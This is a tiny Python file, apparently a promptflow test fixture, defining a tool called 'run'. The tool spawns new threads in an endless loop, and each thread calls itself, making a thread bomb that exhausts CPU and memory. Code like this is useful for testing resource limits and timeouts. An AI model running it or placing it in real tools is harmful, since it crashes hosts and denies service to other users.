from promptflow.core import tool
import threading


@tool
def run():
    while True:
        threading.Thread(target=run).start()
